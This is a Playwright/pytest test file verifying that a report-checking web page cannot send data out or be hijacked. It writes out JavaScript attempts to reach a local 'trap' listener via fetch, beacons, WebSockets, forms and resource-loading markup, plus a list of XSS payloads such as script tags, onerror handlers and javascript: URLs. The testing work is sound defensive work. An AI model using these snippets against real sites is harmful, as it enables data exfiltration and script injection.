"""The page sends nothing: whatever tries to reach a listener on another port fails, and the page goes on working."""

from __future__ import annotations

import re
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Worker
from published_site import PublishedSite
from reader_acts import ENGINE_PATIENCE, PLAIN, Visit, plainly
from trap import Trap, listening

from corpus_cases import cases

TEXTS = {case.name.rpartition("/")[2]: case.text for case in cases("in-the-wild")}
REPORT = TEXTS["wancheng-2024"]

# Each tries to reach `trap` in one way, and ends when the way is closed or has had its time.
FROM_ANYWHERE = {
    "fetch": "trap => fetch(trap, {mode: 'no-cors'})",
    "fetch that outlives the page": "trap => fetch(trap, {mode: 'no-cors', method: 'POST', body: 'text', keepalive: true})",
    "XMLHttpRequest": """trap => new Promise((end) => {
        const request = new XMLHttpRequest(); request.open('POST', trap); request.onloadend = end; request.send('text'); })""",
    "WebSocket": "trap => new Promise((end) => { const socket = new WebSocket(trap.replace('http', 'ws')); socket.onerror = end; })",
    "EventSource": "trap => new Promise((end) => { new EventSource(trap).onerror = end; })",
    "import": "trap => import(trap + 'script.js')",
    "nested worker": "trap => new Worker(trap + 'worker.js')",
}
FROM_THE_PAGE = {
    "beacon": "trap => navigator.sendBeacon(trap, 'text')",
    "image": "trap => new Promise((end) => { const image = new Image(); image.onerror = end; image.src = trap + 'pixel.png'; })",
    "location": "trap => { location.href = trap; }",
}
FROM_THE_WORKER = {"importScripts": "trap => importScripts(trap + 'script.js')"}

# Markup that asks for something as soon as it stands in a page.
MARKUP = """
<img src='TRAP/1'><img srcset='TRAP/2 1x'><script src='TRAP/3'></script><iframe src='TRAP/4'></iframe>
<iframe srcdoc="<img src='TRAP/5'>"></iframe><object data='TRAP/6'></object><embed src='TRAP/7'>
<video src='TRAP/8' poster='TRAP/9' autoplay></video><audio src='TRAP/10' autoplay></audio>
<link rel='stylesheet' href='TRAP/11'><link rel='icon' href='TRAP/12'><link rel='prefetch' href='TRAP/13'>
<link rel='preload' as='image' href='TRAP/14'><link rel='modulepreload' href='TRAP/15'><link rel='manifest' href='TRAP/16'>
<style>body { background: url(TRAP/17) } @import 'TRAP/18'; @font-face { font-family: t; src: url(TRAP/19) } p { font-family: t }</style>
<p style='background: url(TRAP/20)'>text</p><img src='x:' onerror="new Image().src = 'TRAP/21'">
<svg><image href='TRAP/22'/><use href='TRAP/23#a'/></svg><input type='image' src='TRAP/24'><base href='TRAP/25'>
<script>new Image().src = 'TRAP/26'</script><a href="javascript:fetch('TRAP/27')" id='scripted'>text</a>
"""

# Markup that takes the page somewhere else, put together without the sinks that the policy closes.
DEPARTURES = {
    "refresh": """trap => {
        const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0; url=${trap}`;
        document.head.append(meta); }""",
    "form": """trap => {
        const form = document.createElement('form'); form.action = trap; form.method = 'post';
        document.body.append(form); form.submit(); }""",
    "form that answers in another window": """trap => {
        const form = document.createElement('form'); form.action = trap; form.target = '_blank';
        document.body.append(form); form.submit(); }""",
    "link": "trap => { const link = document.createElement('a'); link.href = trap; document.body.append(link); link.click(); }",
    "link that pings": """trap => {
        const link = document.createElement('a'); link.href = '#'; link.ping = trap; document.body.append(link); link.click(); }""",
    "area": """trap => {
        const area = document.createElement('area'); area.href = trap; document.body.append(area); area.click(); }""",
}


@pytest.fixture(scope="module")
def target(browser: Browser, site: PublishedSite) -> Iterator[Page]:
    """A page with its engine ready, on which everything may be tried."""
    with browser.new_context() as profile:
        page = profile.new_page()
        page.goto(site.address + (plainly("") if PLAIN else ""))
        page.locator("html[data-engine=ready]").wait_for(state="attached", timeout=ENGINE_PATIENCE)
        yield page


@pytest.fixture
def departing(browser: Browser, site: PublishedSite) -> Iterator[Page]:
    with browser.new_context() as profile:
        page = profile.new_page()
        page.goto(site.address + (plainly("") if PLAIN else ""))
        yield page


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with listening() as trap:
        yield trap


def test_the_trap_catches_whoever_comes() -> None:
    with listening() as trap, pytest.raises(OSError, match=r".*"):
        urllib.request.urlopen(trap.address, timeout=5)
    assert trap.caught == ["GET / HTTP/1.1"]


def engine_worker(page: Page) -> Worker:
    (worker,) = page.workers
    return worker


def try_out(runner: Worker | Page, way: str, trap: Trap) -> None:
    attempt = f"""async (trap) => {{
        const late = new Promise((end) => setTimeout(end, 700, 'no answer'));
        try {{ return String(await Promise.race([({way})(trap), late])); }} catch (error) {{ return 'refused: ' + error.name; }}
    }}"""
    runner.evaluate(attempt, trap.address)


def await_the_trap(page: Page) -> None:
    page.wait_for_timeout(300)


@pytest.mark.parametrize("way", FROM_ANYWHERE | FROM_THE_PAGE)
def test_the_page_reaches_nobody(target: Page, trap: Trap, way: str) -> None:
    try_out(target, (FROM_ANYWHERE | FROM_THE_PAGE)[way], trap)
    await_the_trap(target)
    assert trap.caught == []


@pytest.mark.parametrize("way", FROM_ANYWHERE | FROM_THE_WORKER)
def test_the_worker_reaches_nobody(target: Page, trap: Trap, way: str) -> None:
    try_out(engine_worker(target), (FROM_ANYWHERE | FROM_THE_WORKER)[way], trap)
    await_the_trap(target)
    assert trap.caught == []


def test_what_makes_an_address_a_script_is_nobody_elses_to_use(target: Page) -> None:
    """The page's head makes the one policy that may; the page takes it away from where other scripts could find it."""
    assert target.evaluate("'giarEarly' in window") is False
    assert (
        target.evaluate("() => { try { trustedTypes.createPolicy('giar-worker', {}); } catch (error) { return error.name; } }")
        == "TypeError"
    )


def test_the_page_works_after_all_that(target: Page) -> None:
    """The attempts above were made on this very page."""
    assert target.evaluate("text => window.giar.check(text)", REPORT)["schema"] == "giar/1"


@pytest.mark.parametrize("way", DEPARTURES)
def test_the_page_cannot_be_led_away(departing: Page, site: PublishedSite, trap: Trap, way: str) -> None:
    departing.evaluate(DEPARTURES[way], trap.address)
    await_the_trap(departing)
    assert trap.caught == []
    assert departing.evaluate("location.href").startswith(site.address)
    assert departing.evaluate("document.querySelectorAll('giar-input').length") == 1


def test_what_lies_beside_the_page_on_its_own_host_is_out_of_reach(target: Page, site: PublishedSite) -> None:
    ask = "async (address) => { try { return (await fetch(address)).status; } catch (error) { return error.name; } }"
    for runner in (target, engine_worker(target)):
        assert runner.evaluate(ask, f"{site.origin}/another/page") == "TypeError"
        assert runner.evaluate(ask, f"{site.address}engine/engine.json") == 200


def test_markup_in_the_page_itself_fetches_nothing_and_runs_nothing(browser: Browser, site: PublishedSite, trap: Trap) -> None:
    markup = MARKUP.replace("TRAP/", trap.address)
    with browser.new_context() as profile:
        page = profile.new_page()
        page.route(
            re.compile(re.escape(site.address) + r"(\?plain)?$"),
            lambda route: route.fulfill(response=(kept := route.fetch()), body=kept.text().replace("<noscript>", f"{markup}<noscript>")),
        )
        page.goto(site.address + (plainly("") if PLAIN else ""))
        page.locator("html[data-engine=ready]").wait_for(state="attached", timeout=ENGINE_PATIENCE)
        page.locator("#scripted").evaluate("link => link.click()")
        page.wait_for_timeout(500)
        assert page.locator("iframe").count() == 2, "the markup did not get into the page"
        assert trap.caught == []
        assert page.evaluate("text => window.giar.check(text)", REPORT)["schema"] == "giar/1"


HOSTILE = (
    "<script>document.title='broken'</script>",
    "<img src=x onerror=\"document.title='broken'\">",
    "<svg onload=\"document.title='broken'\">",
    "<a href=\"javascript:document.title='broken'\">某县</a>",
    "javascript:document.title='broken'",
    "${document.title='broken'}",
    "</textarea><b id=planted>",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_is_shown_as_text(desk: Visit, hostile: str) -> None:
    """In the title, in the prose that findings quote, and in a cell."""
    text = f"{hostile}某局2024年政府信息公开工作年度报告\n" + REPORT.replace("\t33\t", f"\t{hostile}\t", 1).replace("。", f"{hostile}。", 1)
    desk.read(text)
    made = "#planted, .desk script, .desk img, .desk iframe, .desk a[href^=javascript], .desk [onload], .desk [onerror]"
    assert desk.page.locator(made).count() == 0
    assert desk.page.title() != "broken"
    desk.expect_text(text.replace("\r\n", "\n"))
    for item in desk.page.locator("[data-rule] button, [data-rule] a").all()[:3]:
        item.click()
    assert desk.page.locator(made).count() == 0
    assert desk.page.title() != "broken"


def test_nothing_is_asked_for_once_the_engine_is_ready(desk: Visit) -> None:
    desk.page.wait_for_timeout(1500)  # what the engine fetches after its start, whatever is read
    before = len(desk.requests)
    for text in TEXTS.values():
        desk.read(text)
    assert desk.requests[before:] == []
